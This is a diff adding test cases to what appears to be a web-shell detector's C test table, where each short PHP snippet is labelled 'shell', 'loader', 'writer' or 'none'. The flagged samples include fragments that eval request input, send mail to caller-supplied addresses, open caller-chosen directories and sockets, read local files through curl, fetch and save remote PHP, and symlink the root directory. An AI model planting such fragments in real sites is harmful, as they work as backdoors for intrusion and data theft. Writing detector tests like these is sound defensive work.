@@ -85,6 +85,61 @@ static const struct {
     { "a.jpg", "GIF89a<%@ Page Language=\"JScript\" %><% ev~al(Req~uest.Item[\"x\"]); %>",
       "shell" },
 
+    /* PHP: mail, sockets, folders and files that the caller chooses */
+    { "a.php",
+      "<?php foreach (explode(',', $_PO~ST['to']) as $t) ma~il($t, $_PO~ST['s'], "
+      "$_PO~ST['b']);",
+      "shell" },
+    { "a.php", "<?php ma~il('a@b', $_PO~ST['s'], $_PO~ST['b']);", "none" },
+    { "a.php",
+      "<?php $r = mysql_query('select m from t'); $m = mysql_fetch_row($r); "
+      "ma~il($m[0] . $_PO~ST['x'], $_PO~ST['s'], $_PO~ST['b']);",
+      "none" },
+    { "a.php", "<?php $s = fsock~open('udp://' . $_GE~T['h'], 1); fwrite($s, 'x');", "shell" },
+    { "a.php", "<?php $s = fsock~open('h', 1); fwrite($s, $_GE~T['x']);", "none" },
+    { "a.php", "<?php if ($_GE~T['d']) $d = $_GE~T['d']; else $d = '/'; open~dir($d);",
+      "shell" },
+    { "a.php", "<?php open~dir('up/' . $_GE~T['d']);", "none" },
+    { "a.php", "<?php foreach (['d', 'e'] as $n) $$n = $_GE~T[$n]; open~dir($d);", "shell" },
+    { "a.php", "<?php copy('compress.zlib://' . $_PO~ST['f'], $t);", "shell" },
+    { "a.php",
+      "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'file:///' . $_GE~T['f']);",
+      "shell" },
+    { "a.php",
+      "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'http://a/?' . $_GE~T['f']);",
+      "none" },
+    { "a.php",
+      "<?php mysql_connect($_PO~ST['h']); $t = mysql_fetch_row(mysql_query('show tables')); "
+      "mysql_query('select * from ' . $t[0]);",
+      "shell" },
+    { "a.php", "<?php sys~tem('ln -s / all');", "shell" },
+    /* PHP: code that is spelled, fetched or read */
+    { "a.php", "<?php $f = file_get_contents('f'); $f($_GE~T['x']);", "shell" },
+    { "a.php",
+      "<?php function d($s) { foreach ($s as $c) $r .= chr($c - 1); return $r; } "
+      "(d([101])) (d([102]));",
+      "loader" },
+    { "a.php",
+      "<?php class C { function b($p) { ev~al($p . ''); } } call_user_func(array(C, b), "
+      "$_GE~T['x']);",
+      "shell" },
+    { "a.php", "<?php file_put_contents('/tmp/a', base64_decode($_PO~ST['x']));", "writer" },
+    { "a.php", "<?php file_put_contents('/tmp/a', $_PO~ST['x']);", "none" },
+    { "a.php",
+      "<?php file_put_contents(pathinfo('http://a/b.php', 2), "
+      "curl_exec(curl_init('http://a/b.php')));",
+      "writer" },
+
+    { "a.php", "<?php $c = $_GE~T['c']; new $c($_GE~T['x']);", "shell" },
+    { "a.php", "<?php $c = 'Page' . $_GE~T['c']; new $c($_GE~T['x']);", "none" },
+    { "a.php",
+      "<?php $z = new ZipArchive; $z->open($_FI~LES['f']['tmp_name']); $z->extractTo('a');",
+      "writer" },
+    { "a.php",
+      "<?php $t = tempnam('a', 'b'); file_put_contents($t, $_PO~ST['x']); "
+      "exec(\"spell $t\");",
+      "none" },
+
     /* JSP: reflection in its many ways */
     { "a.jsp",
       "<% Class c = Class.forName(\"java.lang.Proc\" + \"essBuilder\"); "
